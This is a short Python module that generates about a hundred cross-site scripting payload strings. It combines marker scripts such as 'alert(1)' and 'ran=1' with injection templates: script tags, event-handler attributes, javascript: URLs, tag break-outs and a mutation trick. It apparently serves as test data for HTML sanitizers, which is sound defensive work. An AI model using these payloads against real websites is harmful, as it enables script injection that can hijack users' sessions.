"""A hundred texts that would run a script if a page read them as HTML, as an address, or as code."""

from __future__ import annotations

_RUN = ["ran=1", "window.ran=1", "top.ran=1", "fetch('/ran')", "alert(1)"]
_TAGS = [
    "<script>{}</script>", '"><script>{}</script>', "</textarea><script>{}</script>", "</title><script>{}</script>",
    "<img src=x onerror={}>", '"><img src=x onerror="{}">', "<svg onload={}>", "<svg><script>{}</script></svg>",
    "<body onload={}>", "<iframe src=\"javascript:{}\"></iframe>", "<iframe srcdoc=\"<script>{}</script>\"></iframe>",
    "<a href=\"javascript:{}\">x</a>", "<details open ontoggle={}>", "<input autofocus onfocus={}>",
    "<video><source onerror={}></video>",
    "<math><mtext><style><img src onerror={}></style></mtext></math>", "' onmouseover='{}",
    '" onfocus="{}" autofocus="',
    "javascript:{}", "${{{}}}", "<object data=\"javascript:{}\"></object>",
]  # fmt: skip
PAYLOADS = [tag.format(run) for run in _RUN for tag in _TAGS]
